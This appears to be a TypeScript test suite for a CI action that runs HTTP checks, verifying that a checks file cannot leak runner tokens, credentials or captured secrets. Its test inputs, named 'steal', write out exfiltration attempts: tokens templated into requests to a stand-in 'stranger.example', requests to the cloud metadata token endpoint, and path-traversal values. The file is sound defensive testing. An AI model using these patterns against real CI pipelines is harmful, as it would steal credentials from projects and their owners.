// A checks file lies in the checkout, where whoever may propose a change can edit it. What it can reach is tried on the
// program itself: no variable of the runner or of a credential, no token for a stranger, no secret in what is reported.
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import type { RequestListener } from 'node:http';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { INVOKER, PROVIDER, type ServiceConfig, startEmulator } from '../../emulator/emulator.ts';
import { RESERVED } from '../../src/variables.ts';
import { bareEnv, cli, temporaryFolder } from '../cli/run-cli.ts';
import { MAIN } from '../entries.ts';
import { beginJob, endJob, runAction, type StepResult } from '../stage/runner.ts';
import { someOf } from '../tier.ts';

const OURS = 'https://ours-abc123-uc.a.run.app';
const STRANGER = 'https://stranger.example';
const invokers = [`serviceAccount:${INVOKER}`];

/** Sends back what it was sent, and what a check captures. */
const ours: RequestListener = (request, response) => {
  const { headers, url = '' } = request;
  const { authorization: _, ...sent } = headers;
  if (url.startsWith('/login')) {
    response.setHeader('set-cookie', 'session=a-session-of-a-person-1; HttpOnly; Path=/');
    response.end(
      JSON.stringify({ token: 'captured/secret+1', pin: '4711', nested: { key: ['in-a-list-1'] } }),
    );
    return;
  }
  response.statusCode = 500;
  response.end(JSON.stringify({ url, ...sent }));
};
const stranger: RequestListener = (_request, response) => {
  response.end('{}');
};

const services: ServiceConfig[] = [
  { host: new URL(OURS).host, invokers, handler: ours },
  { host: new URL(STRANGER).host, invokers: ['allUsers'], handler: stranger },
  { host: 'api.example.com', invokers: ['allUsers'], handler: stranger },
];
const emulator = await startEmulator({ services });
after(() => emulator.close());

interface Ran extends StepResult {
  /** Everything that left the step, apart from masks. */
  readonly seen: string;
}

async function run(
  checks: string,
  { inputs = {}, env = {} }: { inputs?: Record<string, string>; env?: Record<string, string> } = {},
): Promise<Ran> {
  const job = await beginJob();
  try {
    const files = { response_file: 'body', junit_file: 'junit.xml', results_file: 'results.json' };
    const result = await runAction({
      emulator,
      entry: MAIN,
      job,
      env: { ...emulator.github(), ...env },
      inputs: {
        workload_identity_provider: PROVIDER,
        service_account: INVOKER,
        wait: '0s',
        output_tokens: 'false',
        checks,
        ...files,
        ...inputs,
      },
    });
    const written = await Promise.all(
      Object.values(files).map((file) => readFile(join(job.workspace, file), 'utf8').catch(() => '')),
    );
    const log = result.rawLog.replace(/^::add-mask::.*$/gm, '');
    const seen = [log, result.summary, JSON.stringify(result.outputs), ...written].join('\n');
    return { ...result, seen };
  } finally {
    await endJob(job);
  }
}

const to = (result: StepResult, url: string) =>
  result.requests.filter(({ host }) => host === new URL(url).host);

/** Each reserved name with something for its `*`, and in the other case. */
const NAMES = RESERVED.flatMap(({ names, secretNames = [] }) => [
  ...names.map((name) => name.replaceAll('*', 'ANY')),
  ...secretNames.map((name) => name.replaceAll('*', 'ANY_TOKEN')),
]);

describe('a variable of the runner or of a credential', () => {
  const VALUE = 'the-value-of-a-reserved-variable';

  test('is not read by a checks file, in any place and in any case', async () => {
    const env = Object.fromEntries(NAMES.map((name) => [name, VALUE]));
    // These would be read by the program itself, and lead it elsewhere.
    for (const name of NAMES)
      if (/PROXY|^GOOGLE_APPLICATION|^CLOUDSDK_CONFIG|^ACTIONS_ANY/.test(name)) delete env[name];
    const checks = NAMES.flatMap((name) => [
      `  - { get: '${OURS}/?x={{ env.${name} }}' }`,
      `  - { get: '${OURS}/${name}', headers: { X-A: '{{secret.${name.toLowerCase()}}}' } }`,
    ]);
    // A hundred problems are listed at once.
    for (let from = 0; from < checks.length; from += 100) {
      const batch = checks.slice(from, from + 100);
      const result = await run(['version: 1', 'checks:', ...batch].join('\n'), { env });
      assert.equal(result.exitCode, 1);
      assert.equal(result.requests.length, 0);
      const lines = result.log.matchAll(
        /line (\d+), column \d+: the environment variable \w+ is reserved for/g,
      );
      assert.equal(new Set([...lines].map(([, line]) => line)).size, batch.length);
      assert.ok(!result.seen.includes(VALUE));
    }
  });

  const PLACES: readonly (readonly [string, string])[] = [
    ['a path', 'get: /{{ env.GITHUB_TOKEN }}'],
    ['a query', "get: '/?a={{env.GITHUB_TOKEN}}'"],
    ['a host', "get: 'https://{{ env.GITHUB_TOKEN }}.example.com/', auth: none"],
    ['a header', "get: /, headers: { A: '{{ env.Github_Token }}' }"],
    ['a body', "post: /, body: 'x{{ env.GITHUB_TOKEN }}'"],
    ['a JSON body', "post: /, json: { a: [ '{{ env.GITHUB_TOKEN }}' ] }"],
    ['a form', "post: /, form: { a: '{{ env.GITHUB_TOKEN }}' }"],
    ['an audience', "get: /, audience: '{{ secret.GITHUB_TOKEN }}'"],
    ['an expectation', "get: /, expect: [ 'body contains {{ env.GITHUB_TOKEN }}' ]"],
    ['a regular expression', "get: /, expect: [ 'body matches /{{ env.GITHUB_TOKEN }}/' ]"],
    ['a JSONPath', `get: /, expect: [ 'json $["{{ env.GITHUB_TOKEN }}"] exists' ]`],
    ['a schema', "get: /, expect: [ 'json $ schema {{ env.GITHUB_TOKEN }}' ]"],
    ['a capture', `get: /, capture: { a: 'json $["{{ env.GITHUB_TOKEN }}"]' }`],
    [
      'a secret capture',
      `get: /, capture: { a: { from: 'json $["{{ env.GITHUB_TOKEN }}"]', secret: true } }`,
    ],
    ['an escape of YAML', 'get: "/\\x7b\\x7b env.GITHUB_TOKEN }}"'],
  ];
  test('is refused in each place, with line, name and remedy, all of them at once', async () => {
    const checks = `version: 1\ndefaults: { url: '${OURS}' }\nchecks:\n${PLACES.map(([name, keys]) => `  - { name: ${name}, ${keys} }`.replace(/(get|post): (\/[^,]*\{\{.*?\}\})/, "$1: '$2'")).join('\n')}\n`;
    const result = await run(checks, { env: { GITHUB_TOKEN: 'ghs_0123456789abcdef' } });
    assert.equal(result.requests.length, 0);
    for (const [index, [place]] of PLACES.entries()) {
      const line = new RegExp(
        `line ${index + 4}, column \\d+: the environment variable github_token is reserved for GitHub's runner.*secret\\.NAME`,
        'i',
      );
      assert.match(result.log, line, place);
    }
    assert.ok(!result.seen.includes('ghs_0123456789abcdef'));
  });

  test('is refused in the input expect and in an inline file', async () => {
    const result = await run(`checks: [ { get: '${OURS}/{{ env.AWS_SECRET_ACCESS_KEY }}' } ]`, {
      inputs: { url: `${OURS}/`, expect: 'body contains {{ env.ACTIONS_RUNTIME_TOKEN }}' },
    });
    assert.equal(result.requests.length, 0);
    assert.match(
      result.log,
      /expect, line 1, column 15: the environment variable ACTIONS_RUNTIME_TOKEN is reserved/,
    );
    assert.match(
      result.log,
      /checks, line 1, column \d+: the environment variable AWS_SECRET_ACCESS_KEY is reserved/,
    );
  });

  test('is no reason to refuse those that a check needs', async () => {
    const checks = `checks: [ { get: '${OURS}/{{ env.GITHUB_SHA }}/{{ env.GITHUB_REF_NAME }}/{{ env.MY_REGION }}/{{ env.COMMIT_AUTHOR }}' } ]`;
    const env = { GITHUB_SHA: '0f1e', GITHUB_REF_NAME: 'feature/x#1', MY_REGION: 'eu', COMMIT_AUTHOR: 'me' };
    const result = await run(checks, { env });
    assert.deepEqual(
      to(result, OURS).map(({ target }) => target),
      ['/0f1e/feature/x%231/eu/me'],
    );
  });

  test('is masked before the first line, whatever the source of the tokens', async () => {
    const env = {
      ACTIONS_RUNTIME_TOKEN: 'runtime-token-of-the-job',
      GITHUB_TOKEN: 'ghs_0123456789abcdef',
      GH_TOKEN: 'ghp_0123456789abcdef',
      AWS_SECRET_ACCESS_KEY: 'wJalrXUtnFEMIK7MDENGbPxRfiCY',
      AWS_SESSION_TOKEN: 'session-token-of-aws',
      NODE_AUTH_TOKEN: 'npm_0123456789',
      ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'request-token-of-the-job',
      ACTIONS_ID_TOKEN_REQUEST_URL: 'https://pipelines.example/token',
    };
    const result = await run(`checks: [ { get: '${OURS}/' } ]`, {
      inputs: { workload_identity_provider: '', service_account: '', credentials_json: '{}' },
      env,
    });
    for (const [name, value] of Object.entries(env))
      assert.equal(result.masks.includes(value), !name.endsWith('URL'), name);
    const lines = result.rawLog.split('\n');
    const firstOther = lines.findIndex((line) => !line.startsWith('::add-mask::'));
    for (const value of result.masks) assert.ok(lines.indexOf(`::add-mask::${value}`) < firstOther, value);
  });
});

/** What the services see of a run of one check. */
const ATTEMPTS: readonly (readonly [what: string, keys: string, says: RegExp])[] = [
  [
    'the access token to a stranger',
    `get: ${STRANGER}/, auth: access_token`,
    /line 3, column 25: the check "steal" would send the access token to https:\/\/stranger\.example, which is not an API host of googleapis\.com/,
  ],
  [
    'the access token to a service of its own project',
    `get: ${OURS}/, auth: access_token`,
    /the check "steal" would send the access token to https:\/\/ours-abc123-uc\.a\.run\.app/,
  ],
  [
    'the access token in another header',
    `get: ${STRANGER}/, auth: access_token, auth_header: X-Serverless-Authorization`,
    /access token to https:\/\/stranger\.example/,
  ],
  [
    'the access token to a host that looks like an API',
    `get: 'https://googleapis.com.stranger.example/', auth: access_token`,
    /access token to https:\/\/googleapis\.com\.stranger\.example/,
  ],
  [
    'the access token to a port of this machine',
    `get: 'http://127.0.0.1:9/', auth: access_token`,
    /access token to http:\/\/127\.0\.0\.1:9/,
  ],
  [
    'another service’s ID token to a stranger',
    `get: ${STRANGER}/, audience: ${OURS}`,
    /the check "steal" would send an ID token for the audience https:\/\/ours-abc123-uc\.a\.run\.app to https:\/\/stranger\.example, which is another origin/,
  ],
  [
    'an OAuth client’s ID token to a stranger',
    `get: ${STRANGER}/, auth: id_token, audience: 123-abc.apps.googleusercontent.com`,
    /ID token for the audience 123-abc\.apps\.googleusercontent\.com to https:\/\/stranger\.example/,
  ],
  [
    'another service’s ID token to one that looks like it',
    `get: 'https://x---ours-abc123-uc.a.run.app.stranger.example/', audience: ${OURS}`,
    /to https:\/\/x---ours-abc123-uc\.a\.run\.app\.stranger\.example/,
  ],
  [
    'the access token where a variable leads it',
    "get: 'https://{{ env.WHERE }}/', auth: access_token",
    /access token to https:\/\/stranger\.example/,
  ],
  [
    'a request to the metadata server',
    "get: 'http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token', auth: none",
    /the check "steal" would call http:\/\/169\.254\.169\.254, where the machine's own tokens are/,
  ],
  [
    'a request to the metadata server by its name',
    "get: 'http://metadata.google.internal/', auth: none",
    /the check "steal" would call http:\/\/metadata\.google\.internal/,
  ],
];

test('a checks file sends no header that a metadata server asks for', async () => {
  const result = await run(
    `version: 1\nchecks:\n  - { name: steal, get: 'http://127.0.0.1:9/', auth: none, headers: { Metadata-Flavor: Google } }\n`,
  );
  assert.equal(result.requests.length, 0);
  assert.match(result.log, /Metadata-Flavor is a header of a cloud's metadata service/);
});

test('a credential is not read by a checks file, whatever the name of its variable', async () => {
  const key = JSON.stringify(await emulator.createKey(INVOKER));
  const installation = `ghs_${'a1B2'.repeat(9)}`;
  const cases = [
    [{ DEPLOY: key }, /DEPLOY holds a credential, and no check can read it/],
    [{ DEPLOY: Buffer.from(key).toString('base64') }, /DEPLOY holds a credential/],
    [{ COPY: installation, GITHUB_TOKEN: installation }, /COPY holds the value of GITHUB_TOKEN/],
  ] as const;
  for (const [env, says] of someOf(cases, 'credentials')) {
    const [name] = Object.keys(env);
    const result = await run(
      `version: 1\nchecks:\n  - { name: steal, get: '${OURS}/', headers: { X-Key: '{{ env.${name} }}' } }\n`,
      { env },
    );
    assert.equal(result.requests.length, 0);
    assert.match(result.log, says);
  }
});

describe('a checks file that would send', () => {
  for (const [what, keys, says] of someOf(ATTEMPTS, 'attempts', 4)) {
    test(`${what} is refused before any request, with the line that would allow it`, async () => {
      const env = { WHERE: 'stranger.example' };
      const result = await run(`version: 1\nchecks:\n  - { name: steal, ${keys} }\n`, { env });
      assert.equal(result.exitCode, 1);
      assert.equal(result.requests.length, 0);
      assert.match(result.log, says);
      // Not the stranger's: an example is pasted.
      assert.match(result.log, /allowed_origins: https:\/\/api\.example\.com\n/);
    });
  }

  test('credentials by its defaults is refused for each check', async () => {
    const checks = `defaults: { url: '${STRANGER}', auth: id_token, audience: '${OURS}' }
checks: [ { name: one, get: /1 }, { name: two, get: /2 }, { name: three, get: '${OURS}/' } ]`;
    const result = await run(checks);
    assert.equal(result.requests.length, 0);
    assert.match(result.log, /the check "one" would send an ID token/);
    assert.match(result.log, /the check "two" would send an ID token/);
    assert.doesNotMatch(result.log, /the check "three"/);
  });

  test('a token that its URL asks for sends it', async () => {
    const checks = `version: 1
checks:
  - { name: tag, get: 'https://tag---${new URL(OURS).host}/', audience: '${OURS}' }
  - { name: own, get: '${OURS}/', audience: '${OURS}/custom' }
  - { name: api, get: 'https://run.googleapis.com/' }
  - { name: none, get: '${STRANGER}/', auth: none }
`;
    const result = await run(checks);
    assert.doesNotMatch(result.log, /would send/);
    assert.deepEqual(
      to(result, STRANGER).map(({ headers }) => headers['authorization']),
      [undefined],
    );
  });

  test('an access token is allowed by the workflow, by origin or by its own url', async () => {
    const checks = `checks: [ { get: '${STRANGER}/1', auth: access_token }, { get: '${STRANGER}/2', audience: '${OURS}' } ]`;
    const listed = await run(checks, {
      inputs: { allowed_origins: `https://api.example.com/, ${STRANGER}:443` },
    });
    assert.equal(listed.exitCode, 0, listed.log);
    const byUrl = await run(checks, { inputs: { url: `${STRANGER}/`, request_auth: 'none' } });
    assert.equal(byUrl.exitCode, 0, byUrl.log);
    for (const result of [listed, byUrl])
      for (const path of ['/1', '/2'])
        assert.match(
          to(result, STRANGER).find(({ target }) => target === path)?.headers['authorization'] ?? '',
          /^Bearer /,
        );
    const other = await run(checks, { inputs: { allowed_origins: `${STRANGER}:8443` } });
    assert.equal(other.requests.length, 0);
  });

  test('a token after a redirect to another origin does not', async () => {
    // The access token goes along on the allowed origin alone.
    const checks = `checks: [ { get: '${OURS}/', auth: access_token, redirects: 3 } ]`;
    const result = await run(checks, { inputs: { allowed_origins: OURS } });
    assert.deepEqual(to(result, STRANGER), []);
  });
});

test('what is no origin is an error that shows one, and quotes nothing', async () => {
  const wrong = [
    'api.example.com',
    'https://*.example.com',
    'https://user:pass-of-user@api.example.com',
    'https://api.example.com/path',
    'https://api.example.com?query',
    'http://api.example.com',
    'ftp://api.example.com',
  ];
  const result = await run(`checks: [ { get: '${OURS}/' } ]`, {
    inputs: { allowed_origins: wrong.join('\n') },
  });
  assert.equal(result.requests.length, 0);
  for (const index of wrong.keys())
    assert.match(result.log, new RegExp(`allowed_origins, item ${index + 1}, `));
  assert.match(result.log, /Example:\n {2}allowed_origins: https:\/\/api\.example\.com/);
  assert.ok(!result.seen.includes('pass-of-user'));
});

describe('a secret that a check sends', () => {
  const SECRETS = {
    MY_API_TOKEN: 'value of a+token/1',
    SERVICE_PASSWORD: 'pässword of a person',
    PLAIN: 'plain-name-secret-1',
  };

  test('is in no report, however it is sent and sent back', async () => {
    const checks = `version: 1
defaults: { url: '${OURS}' }
checks:
  - name: login
    get: /login
    capture: { token: { from: json $.token, secret: true }, list: { from: json $.nested, secret: true }, pin: { from: json $.pin, secret: true } }
    expect: [ 'json $.token == other', 'json $.pin == 4711' ]
  - name: whole
    get: /login
    capture: { token: { from: json $.token, secret: true }, pin: { from: json $.pin, secret: true } }
  - name: later
    get: '/x/{{ capture.token }}?pin={{ capture.pin }}'
    after: whole
    headers: { X-Session: '{{ capture.token }}' }
  - name: placeholders
    get: '/p/{{ env.MY_API_TOKEN }}?q={{ secret.PLAIN }}'
    headers: { X-Any: '{{ secret.PLAIN }}', X-Other: '{{ env.MY_API_TOKEN }}' }
    expect: [ 'status 200', 'body == {{ env.MY_API_TOKEN }}' ]
  - name: headers
    get: '/h?api_key=key-in-the-query-1'
    auth_header: X-Serverless-Authorization
    headers: { Authorization: 'Basic ${Buffer.from('user:basic-password-1').toString('base64')}', Cookie: 'a=cookie-value-1; b="cookie value 2"', x-api-key: header-key-1, X-Auth-Token: header-token-1, Client-Secret: header-secret-1 }
`;
    const result = await run(checks, { env: SECRETS });
    assert.equal(result.exitCode, 1);
    const sent = to(result, OURS);
    assert.ok(
      sent.some(({ target }) => target === '/x/captured%2Fsecret%2B1?pin=4711'),
      result.log,
    );
    assert.ok(
      sent.some(({ target }) => target === '/p/value%20of%20a%2Btoken%2F1?q=plain-name-secret-1'),
      result.log,
    );
    for (const secret of [
      SECRETS.MY_API_TOKEN,
      SECRETS.PLAIN,
      encodeURIComponent(SECRETS.MY_API_TOKEN),
      'value%20of%20a',
      'captured/secret+1',
      'captured%2Fsecret%2B1',
      'in-a-list-1',
      'pin=4711',
      '"pin":"4711"',
      'basic-password-1',
      Buffer.from('user:basic-password-1').toString('base64'),
      'cookie-value-1',
      'cookie value 2',
      'header-key-1',
      'header-token-1',
      'header-secret-1',
      'key-in-the-query-1',
      'a-session-of-a-person-1',
    ]) {
      const at = result.seen.indexOf(secret);
      assert.ok(at < 0, `${secret}: ${result.seen.slice(Math.max(0, at - 200), at + 100)}`);
    }
    assert.match(result.summary, /\*\*\*/);
  });

  test('is not shown where a line about a cookie fails', async () => {
    const checks = `checks: [ { get: '${OURS}/login', expect: [ 'cookie session == x', 'header set-cookie == x' ] } ]`;
    const result = await run(checks, { inputs: { response_file: '' } });
    assert.match(result.log, /actual: a value of 23 characters, not shown/);
    assert.match(result.log, /session=\*\*\*; HttpOnly/);
    const { response_headers: _, ...outputs } = result.outputs;
    assert.ok(
      ![result.rawLog, result.summary, JSON.stringify(outputs)].join().includes('a-session-of-a-person-1'),
    );
  });

  test('is redacted as a part of a URL, in a message about it too', async () => {
    const env = {
      SECRET_HOST: 'Secret-Host-Name',
      WEBHOOK: `${OURS}/services/T0001/webhook-secret?sig=webhook-sig`,
    };
    const refused = await run(
      "checks: [ { get: 'https://{{ env.SECRET_HOST }}.example.com/', auth: access_token }, { get: 'http://{{ env.SECRET_HOST }}/' } ]",
      { env },
    );
    assert.equal(refused.requests.length, 0);
    assert.match(refused.log, /access token to https:\/\/\*\*\*\.example\.com/);
    assert.doesNotMatch(refused.seen, /secret-host-name/i);
    const sent = await run("checks: [ { name: hook, get: '{{ secret.WEBHOOK }}' } ]", { env });
    assert.deepEqual(
      to(sent, OURS).map(({ target }) => target),
      ['/services/T0001/webhook-secret?sig=webhook-sig'],
    );
    assert.doesNotMatch(sent.seen, /webhook-s/);
    const path = await run(`checks: [ { name: api, get: '{{ env.AUTH_URL }}/api/v2' } ]`, {
      env: { AUTH_URL: `${OURS}/api` },
    });
    assert.match(path.seen, /\/api\/v2/);
  });

  test('is redacted when an input names it', async () => {
    const result = await run('', {
      inputs: {
        url: `${OURS}/single?access_token=token-in-the-query`,
        headers: 'X-Api-Key: header-key-of-input\nCookie: a=cookie-of-input; b=2',
        expect: 'body contains {{ secret.PLAIN }}',
      },
      env: { PLAIN: 'plain-secret-of-env' },
    });
    assert.equal(result.exitCode, 1);
    assert.equal(to(result, OURS).length, 1, result.log);
    for (const secret of [
      'token-in-the-query',
      'header-key-of-input',
      'cookie-of-input',
      'plain-secret-of-env',
    ])
      assert.ok(!result.seen.includes(secret), secret);
  });

  test('is refused when it is too short to be masked', async () => {
    const checks = `checks: [ { get: '${OURS}/{{ secret.PIN }}' }, { get: '${OURS}/{{ env.ORDER_KEY }}' } ]`;
    const result = await run(checks, { env: { PIN: '471', ORDER_KEY: 'A1' } });
    assert.equal(result.requests.length, 0);
    assert.match(
      result.log,
      /PIN is a secret, and is shorter than the 4 characters that can be masked; use a longer one/,
    );
    assert.match(result.log, /ORDER_KEY is a secret by its name, .*or another name if it is no secret/);
  });
});

test('a variable’s value leads a path nowhere else', async () => {
  const env = { UP: '../../admin', QUERY: 'x?admin=1#&b', DOT: '.', SLASHES: 'a/b' };
  const refused = await run(
    `checks: [ { get: '${OURS}/v/{{ env.UP }}' }, { get: '${OURS}/{{ env.DOT }}{{ env.DOT }}/x' } ]`,
    { env },
  );
  assert.equal(refused.requests.length, 0);
  assert.equal(refused.log.match(/would lead the path elsewhere/g)?.length, 2);
  const sent = await run(
    `checks: [ { get: '${OURS}/{{ env.QUERY }}/{{ env.SLASHES }}?q={{ env.QUERY }}' } ]`,
    { env },
  );
  assert.deepEqual(
    to(sent, OURS).map(({ target }) => target),
    ['/x%3Fadmin=1%23&b/a/b?q=x?admin=1%23%26b'],
  );
});

test('the command line holds a file to the same, and names its own flag', async (context) => {
  const { writeFileSync } = await import('node:fs');
  const folder = temporaryFolder(context);
  const file = join(folder, 'checks.yaml');
  writeFileSync(
    file,
    `checks: [ { name: steal, get: '${STRANGER}/{{ env.GITHUB_TOKEN }}' }, { name: other, get: '${STRANGER}/', auth: access_token } ]`,
  );
  const key = join(folder, 'key.json');
  writeFileSync(key, JSON.stringify(await emulator.createKey(INVOKER)));
  const { status, stderr } = await cli(['check', file, '--credentials-json', key], {
    env: bareEnv({ ...emulator.env, GITHUB_TOKEN: 'ghs_0123456789abcdef' }),
  });
  assert.equal(status, 2, stderr);
  assert.match(stderr, /the environment variable GITHUB_TOKEN is reserved/);
  assert.match(stderr, /--allowed-origins https:\/\/api\.example\.com/);
  assert.doesNotMatch(stderr, /allowed-origins https:\/\/stranger/);
  assert.ok(!stderr.includes('ghs_'));
});
